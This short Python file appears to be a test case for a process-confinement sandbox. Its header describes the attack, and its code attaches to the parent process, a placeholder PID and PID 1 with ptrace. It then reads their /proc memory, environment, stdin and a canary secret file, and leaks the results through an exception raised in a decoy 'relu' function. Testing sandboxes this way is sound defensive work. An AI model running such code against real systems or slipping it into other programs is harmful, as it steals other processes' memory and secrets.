# attack: attaches to its parents and reads their memory
# levels: jail confined
# review: yes
import ctypes
import os

libc = ctypes.CDLL(None)
found = []
for pid in (os.getppid(), @PID@, 1):
    libc.ptrace(16, pid, None, None)
    for name in ("mem", "maps", "environ", "fd/0", "root@CANARY@/secret.txt"):
        try:
            with open(f"/proc/{pid}/{name}", "r+b", buffering=0) as file:
                found.append(file.read(1_000))
        except OSError:
            pass


def relu(x):
    raise ValueError(str(found))
